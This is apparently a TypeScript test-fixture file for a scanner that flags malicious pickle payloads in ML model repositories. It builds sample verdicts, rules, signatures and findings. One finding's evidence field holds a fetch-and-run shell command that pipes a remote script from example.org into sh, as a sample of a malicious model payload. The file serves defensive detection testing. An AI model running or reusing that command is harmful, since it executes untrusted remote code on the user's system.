import type { Assessment, FileAssessment } from '../../src/core/assessment/assessment.ts';
import { NOTHING_DECLARED } from '../../src/core/assessment/declared.ts';
import { type Finding, fingerprint } from '../../src/core/assessment/finding.ts';
import type { SignatureAssessment } from '../../src/core/assessment/signature.ts';
import { decide } from '../../src/policy/index.ts';
import type { Judged, ReportContext, RuleInfo } from '../../src/report/index.ts';
import type { TableOptions } from '../../src/report/table/options.ts';

const SHA = 'ab12'.repeat(16);
const COMMIT = '0123456789abcdef0123456789abcdef01234567';
const REFERENCES = { owasp: ['ML06:2023'], atlas: ['AML.T0010', 'AML.T0011.000'], cwe: ['CWE-502'] };

export const CALL_RULE: RuleInfo = {
  id: 'pickle.call.dangerous',
  title: 'Pickle calls a dangerous function',
  severity: 'critical',
  explanation:
    'Unpickling this file calls a function that runs commands, code or imports. It happens while the file is loaded.',
  remedy: 'Do not load the file.',
  ...REFERENCES,
};

export const UNLISTED_RULE: RuleInfo = {
  id: 'pickle.global.unlisted',
  title: 'Pickle uses a global that is not listed',
  severity: 'medium',
  explanation: 'The file imports a name that no listed library writes. Importing a module runs it.',
  remedy: 'Find out which library defines the name and why the model needs it.',
  ...REFERENCES,
};

export const EXTENSION_RULE: RuleInfo = {
  id: 'format.extension.mismatch',
  title: 'Extension does not fit the content',
  severity: 'low',
  explanation: 'The name says one format and the bytes are of another.',
  remedy: 'Rename the file after its content.',
  ...REFERENCES,
};

export const CONTEXT: ReportContext = {
  rules: new Map([CALL_RULE, UNLISTED_RULE, EXTENSION_RULE].map((rule) => [rule.id, rule])),
  formats: new Map([
    ['torch-zip', 'PyTorch checkpoint (zip)'],
    ['safetensors', 'safetensors'],
    ['pickle', 'pickle'],
    ['onnx', 'ONNX model'],
    ['json', 'JSON'],
  ]),
  version: '0.1.0',
  coverage: false,
};

export function tableOptions(over: Partial<TableOptions> = {}): TableOptions {
  return {
    width: 80,
    color: false,
    verbose: false,
    quiet: false,
    isListed: (name) => !name.startsWith('acme.'),
    advice: new Map([
      [
        'extra/tokens.pkl',
        { kind: 'entries', entries: [{ module: 'acme.tokens', name: 'Table', uses: ['new', 'build'] }] },
      ],
    ]),
    reopen: (file) => `models/${file}`,
    ...over,
  };
}

export function file(over: Partial<FileAssessment> & { path: string }): FileAssessment {
  const size = over.size ?? 1000;
  return {
    size,
    format: 'pickle',
    sha256: SHA,
    digestBasis: 'computed',
    verdict: 'clean',
    imports: [],
    readings: [],
    reasons: [],
    coverage: { ranges: [{ start: 0, end: size, kind: 'parsed' }], gaps: [] },
    ...over,
  };
}

export function finding(rule: RuleInfo, over: Partial<Finding> & { file: string }): Finding {
  return {
    ruleId: rule.id,
    severity: rule.severity,
    message: rule.title,
    owasp: rule.owasp,
    atlas: rule.atlas,
    cwe: rule.cwe,
    fingerprint: fingerprint(rule.id, over.file, over.member, over.evidence ?? ''),
    ...over,
  };
}

export function assessment(over: Partial<Assessment> = {}): Assessment {
  const files = over.files ?? [file({ path: 'model.pkl' })];
  const bytesTotal = files.reduce((sum, { size }) => sum + size, 0);
  return {
    artifact: { ref: 'hf://acme/model', pinned: `hf://acme/model@${COMMIT}`, digest: `sha256:${SHA}` },
    status: 'complete',
    files,
    findings: [],
    checks: [],
    signatures: [],
    declared: NOTHING_DECLARED,
    ruleset: { version: '1.0.0', digest: `sha256:${'cd34'.repeat(16)}` },
    notes: [],
    stats: { files: files.length, bytesTotal, bytesRead: bytesTotal, durationMs: 312 },
    ...over,
  };
}

export function signature(over: Partial<SignatureAssessment> = {}): SignatureAssessment {
  return {
    signature: 'model.sig',
    status: 'verified',
    problem: null,
    detail: 'every file is as it was signed',
    signer: {
      kind: 'sigstore',
      identity: 'https://github.com/acme/model/.github/workflows/release.yml@refs/tags/v1',
      issuer: 'https://token.actions.githubusercontent.com',
      signedAt: '2026-01-02T03:04:05.000Z',
    },
    method: 'sha256',
    covered: 6,
    changed: [],
    missing: [],
    uncovered: [],
    emptyFiles: [],
    ...over,
  };
}

export function judged(over: Partial<Assessment> = {}, policy = 'baseline'): Judged {
  const known = assessment(over);
  return { assessment: known, decision: decide(known, { policy }) };
}

/** One file of each verdict, as in a repository with a payload, an unlisted name, a truncated file and an ONNX model. */
export function mixed(policy?: string): Judged {
  const bad = 'pytorch_model.bin';
  return judged(
    {
      files: [
        file({ path: 'config.json', format: 'json', size: 612 }),
        file({ path: 'model.safetensors', format: 'safetensors', size: 4_400_000_000, digestBasis: 'claimed' }),
        file({
          path: bad,
          format: 'torch-zip',
          size: 4_400_001_234,
          digestBasis: 'claimed',
          verdict: 'malicious',
          imports: ['collections.OrderedDict', 'posix.system', 'torch._utils._rebuild_tensor_v2'],
          coverage: {
            ranges: [
              { start: 0, end: 2000, kind: 'parsed' },
              {
                start: 2000,
                end: 4_400_001_234,
                kind: 'opaque',
                why: 'tensor data: torch copies it and never interprets it',
              },
            ],
            gaps: [],
          },
        }),
        file({
          path: 'extra/tokens.pkl',
          verdict: 'suspicious',
          imports: ['acme.tokens.Table', 'builtins.set'],
          readings: [
            { loader: 'pickle', verdict: 'clean', imports: ['builtins.set'] },
            { loader: 'pickle.py', verdict: 'suspicious', imports: ['acme.tokens.Table', 'builtins.set'] },
            { loader: 'torch-weights-only', verdict: 'clean', imports: [] },
          ],
        }),
        file({
          path: 'extra/cut.pkl',
          verdict: 'unknown',
          reasons: ['the pickle ends before its STOP'],
          coverage: { ranges: [{ start: 0, end: 900, kind: 'parsed' }], gaps: [{ start: 900, end: 1000 }] },
        }),
        file({
          path: 'onnx/model.onnx',
          format: 'onnx',
          size: 90_000_000,
          sha256: null,
          digestBasis: 'none',
          verdict: 'not-assessed',
        }),
      ],
      findings: [
        finding(CALL_RULE, {
          file: bad,
          member: 'archive/data.pkl',
          offset: 42,
          message: 'Calls posix.system, which runs a shell command',
          evidence: "posix.system('curl https://example.org/x | sh')",
        }),
        finding(UNLISTED_RULE, {
          file: 'extra/tokens.pkl',
          offset: 7,
          message: 'Constructs acme.tokens.Table, which is not listed',
          evidence: 'acme.tokens.Table',
        }),
        finding(EXTENSION_RULE, { file: 'config.json', line: 1, message: 'Named .json, holds YAML' }),
      ],
      checks: [
        { id: 'integrity.checksum', status: 'pass', detail: '3 files have the digest that the Hub announces' },
        { id: 'format.onnx.scan', status: 'not-assessed', detail: 'no scanner judges ONNX yet' },
      ],
      signatures: [
        signature({
          status: 'partial',
          detail: 'the signature is valid, but leaves 1 file uncovered',
          covered: 5,
          uncovered: [{ path: 'extra/tokens.pkl', why: 'added' }],
        }),
      ],
      declared: {
        licences: ['apache-2.0'],
        licenceName: null,
        baseModels: ['acme/base'],
        datasets: ['acme/corpus'],
        library: 'transformers',
        task: 'text-generation',
        languages: ['en', 'de'],
        tags: ['pytorch'],
        remoteCode: [],
        architectures: ['AcmeForCausalLM'],
        modelType: 'acme',
        files: ['README.md', 'config.json'],
      },
      notes: ['read 0.02% of the weights; their digests are claimed by the Hub'],
    },
    policy,
  );
}
